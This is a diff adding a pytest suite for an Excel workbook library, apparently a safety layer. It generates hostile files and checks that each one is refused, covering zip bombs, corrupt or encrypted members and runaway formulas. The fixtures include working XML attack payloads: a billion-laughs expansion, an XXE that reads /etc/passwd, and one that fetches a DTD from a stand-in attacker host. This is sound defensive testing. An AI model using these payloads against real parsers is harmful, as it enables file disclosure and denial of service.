@@ -1,0 +1,265 @@
+"""Hostile and broken files are refused before parsing, with a one-line message, in bounded time/memory.
+
+Every hostile file is generated here at run time from a small valid workbook.
+"""
+
+import io
+import os
+import struct
+import zipfile
+
+import openpyxl
+import pytest
+
+from xlbridge.errors import WorkbookError
+from xlbridge.recalc import recalc_workbook
+from xlbridge.safety import SafetyLimits, check_workbook
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+ <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+ <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+ <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+ <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+ <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+]>
+<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">
+<si><t>&lol9;</t></si></sst>"""
+
+XXE = b"""<?xml version="1.0"?>
+<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">
+<si><t>&xxe;</t></si></sst>"""
+
+XXE_PARAMETER = b"""<?xml version="1.0"?>
+<!DOCTYPE sst [<!ENTITY % ext SYSTEM "http://attacker.invalid/evil.dtd"> %ext;]>
+<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>"""
+
+
+@pytest.fixture(scope="module")
+def good(tmp_path_factory):
+    path = tmp_path_factory.mktemp("safety") / "good.xlsx"
+    wb = openpyxl.Workbook()
+    wb.active["A1"] = "hello"
+    wb.active["A2"] = "=1+1"
+    wb.save(path)
+    return path
+
+
+def rebuild(src, dst, replace=None, add=None):
+    """Copy zip src to dst, replacing or adding members (name -> bytes)."""
+    replace, add = replace or {}, add or {}
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            zout.writestr(info.filename, replace.get(info.filename, zin.read(info)))
+        for name, data in add.items():
+            zout.writestr(name, data)
+    return dst
+
+
+def refused(path, match, **kw):
+    with pytest.raises(WorkbookError, match=match) as exc:
+        check_workbook(path, **kw)
+    msg = str(exc.value)
+    assert "\n" not in msg and len(msg) < 300
+    return msg
+
+
+def test_good_workbook_passes(good):
+    info = check_workbook(good)
+    assert "xl/workbook.xml" in info.members and not info.has_vba
+
+
+def test_billion_laughs_refused(good, tmp_path):
+    bad = rebuild(good, tmp_path / "laughs.xlsx", add={"xl/sharedStrings.xml": BILLION_LAUGHS})
+    msg = refused(bad, "DTD")
+    assert "xl/sharedStrings.xml" in msg
+
+
+@pytest.mark.parametrize("payload", [XXE, XXE_PARAMETER], ids=["general", "parameter"])
+def test_external_entity_refused(good, tmp_path, payload):
+    bad = rebuild(good, tmp_path / "xxe.xlsx", replace={"xl/worksheets/sheet1.xml": payload})
+    refused(bad, "refused: XML part xl/worksheets/sheet1.xml contains a DTD")
+
+
+def test_dtd_in_any_part_refused_even_rels(good, tmp_path):
+    rels = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "b">]><Relationships/>'
+    bad = rebuild(good, tmp_path / "rels.xlsx", replace={"_rels/.rels": rels})
+    refused(bad, "_rels/.rels")
+
+
+def test_zip_bomb_by_ratio_refused_before_decompressing(good, tmp_path):
+    bad = rebuild(good, tmp_path / "ratio.xlsx", add={"xl/media/zeros.bin": bytes(20 << 20)})
+    with zipfile.ZipFile(bad) as z:
+        info = z.getinfo("xl/media/zeros.bin")
+        assert info.file_size / info.compress_size > 200
+    refused(bad, r"compression ratio \d+:1, more than the limit of 200:1")
+
+
+def _patch_declared_size(path, member, size):
+    """Rewrite the declared uncompressed size of ``member`` in the central directory and local header."""
+    data = bytearray(open(path, "rb").read())
+    name = member.encode()
+    pos = 0
+    while True:
+        pos = data.find(b"PK\x01\x02", pos)
+        if pos < 0:
+            break
+        nlen = struct.unpack_from("<H", data, pos + 28)[0]
+        if bytes(data[pos + 46: pos + 46 + nlen]) == name:
+            struct.pack_into("<I", data, pos + 24, size)
+            local = struct.unpack_from("<I", data, pos + 42)[0]
+            struct.pack_into("<I", data, local + 22, size)
+        pos += 4
+    open(path, "wb").write(bytes(data))
+
+
+def test_zip_bomb_by_declared_size_refused(good, tmp_path):
+    bad = rebuild(good, tmp_path / "declared.xlsx", add={"xl/media/big.bin": b"x" * 1000})
+    _patch_declared_size(bad, "xl/media/big.bin", 0xFFFFFFF0)  # claims 4 GiB
+    refused(bad, "declares 4294967280 bytes uncompressed")
+
+
+def test_total_declared_size_limit(good, tmp_path):
+    members = {f"xl/media/p{i}.bin": os.urandom(1 << 16) for i in range(4)}
+    bad = rebuild(good, tmp_path / "total.xlsx", add=members)
+    refused(bad, "in total", limits=SafetyLimits(max_total_uncompressed=200_000))
+
+
+def test_member_count_limit(good, tmp_path):
+    bad = rebuild(good, tmp_path / "many.xlsx", add={f"xl/media/{i}.bin": b"" for i in range(50)})
+    refused(bad, "zip members, more than the limit of 40", limits=SafetyLimits(max_members=40))
+
+
+def test_member_lying_about_its_size_refused(good, tmp_path):
+    bad = rebuild(good, tmp_path / "liar.xlsx", add={"xl/media/liar.bin": b"y" * 5000})
+    _patch_declared_size(bad, "xl/media/liar.bin", 100)
+    refused(bad, "damaged workbook: zip member xl/media/liar.bin cannot be read")
+
+
+def test_not_a_zip_refused(tmp_path):
+    p = tmp_path / "notes.xlsx"
+    p.write_text("Board,NS,EW\n1,3,5\n")
+    refused(p, "not an Excel workbook \\(not a zip file")
+
+
+def test_empty_file_refused(tmp_path):
+    p = tmp_path / "empty.xlsx"
+    p.write_bytes(b"")
+    refused(p, "empty")
+
+
+def test_other_zip_refused(tmp_path):
+    p = tmp_path / "doc.xlsx"
+    with zipfile.ZipFile(p, "w") as z:
+        z.writestr("hello.txt", "hi")
+    refused(p, "not an Excel workbook \\(a zip file without")
+
+
+@pytest.mark.parametrize("keep", [0.5, 0.9])
+def test_truncated_refused(good, tmp_path, keep):
+    data = good.read_bytes()
+    p = tmp_path / "cut.xlsx"
+    p.write_bytes(data[: int(len(data) * keep)])
+    refused(p, "damaged workbook: truncated or corrupt zip")
+
+
+def test_corrupt_member_refused(good, tmp_path):
+    data = bytearray(good.read_bytes())
+    with zipfile.ZipFile(good) as z:
+        info = z.getinfo("xl/styles.xml")
+    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
+    for i in range(start + 10, start + 40):  # scribble over the deflate stream
+        data[i] ^= 0x5A
+    p = tmp_path / "corrupt.xlsx"
+    p.write_bytes(bytes(data))
+    refused(p, "damaged workbook: zip member xl/styles.xml")
+
+
+def test_cfb_encrypted_refused(tmp_path):
+    p = tmp_path / "secret.xlsx"
+    p.write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + bytes(4096))
+    msg = refused(p, "OLE2/CFB")
+    assert "password-protected" in msg and "legacy .xls" in msg
+
+
+def test_zip_encrypted_member_refused(good, tmp_path):
+    data = bytearray(good.read_bytes())
+    pos = data.find(b"PK\x01\x02")
+    struct.pack_into("<H", data, pos + 8, struct.unpack_from("<H", data, pos + 8)[0] | 1)
+    p = tmp_path / "zipcrypto.xlsx"
+    p.write_bytes(bytes(data))
+    refused(p, "encrypted")
+
+
+def test_file_size_limit(good):
+    refused(good, "more than the limit of 100", limits=SafetyLimits(max_file_size=100))
+
+
+def test_streams_accepted():
+    buf = io.BytesIO(b"PK\x03\x04 but no more")
+    with pytest.raises(WorkbookError, match="truncated or corrupt"):
+        check_workbook(buf)
+
+
+def test_xlsm_vba_project_kept_byte_identical_never_run(good, tmp_path):
+    vba = b"\xd0\xcf\x11\xe0" + os.urandom(3000)  # an opaque VBA project: only copied
+    ct = zipfile.ZipFile(good).read("[Content_Types].xml").replace(
+        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
+    src = rebuild(good, tmp_path / "macro.xlsm", replace={"[Content_Types].xml": ct},
+                  add={"xl/vbaProject.bin": vba})
+    assert check_workbook(src).has_vba
+    report = recalc_workbook(str(src), functions={})
+    assert report.output.endswith("macro-recalculated.xlsm") and report.has_vba
+    with zipfile.ZipFile(report.output) as z:
+        assert z.read("xl/vbaProject.bin") == vba
+    assert openpyxl.load_workbook(report.output, data_only=True).active["A2"].value == 2
+
+
+def test_recalc_refuses_hostile_file_before_engine(good, tmp_path):
+    bad = rebuild(good, tmp_path / "laughs.xlsx", add={"xl/sharedStrings.xml": BILLION_LAUGHS})
+    with pytest.raises(WorkbookError, match="DTD"):
+        recalc_workbook(str(bad), functions={})
+    assert not (tmp_path / "laughs-recalculated.xlsx").exists()
+
+
+def _vm_size():
+    with open("/proc/self/status") as fh:
+        for line in fh:
+            if line.startswith("VmSize:"):
+                return int(line.split()[1]) * 1024
+    return None
+
+
+@pytest.mark.skipif(not os.path.exists("/proc/self/status"), reason="needs Linux /proc")
+def test_engine_memory_bounded(tmp_path):
+    wb = openpyxl.Workbook()
+    wb.active["A1"] = "=HOG()"
+    wb.save(tmp_path / "hog.xlsx")
+
+    def hog():
+        return len(bytearray(8 << 30))  # 8 GiB
+
+    limits = SafetyLimits(max_memory=_vm_size() + (512 << 20))
+    with pytest.raises(WorkbookError, match="more memory than the limit"):
+        recalc_workbook(str(tmp_path / "hog.xlsx"), functions={"HOG": hog}, limits=limits)
+
+
+def test_engine_time_bounded(tmp_path):
+    import time
+
+    wb = openpyxl.Workbook()
+    wb.active["A1"] = "=SLOW()"
+    wb.save(tmp_path / "slow.xlsx")
+
+    def slow():
+        time.sleep(120)
+        return 1
+
+    with pytest.raises(WorkbookError, match="took longer than the limit of 1 s"):
+        recalc_workbook(str(tmp_path / "slow.xlsx"), functions={"SLOW": slow}, limits=SafetyLimits(max_seconds=1))
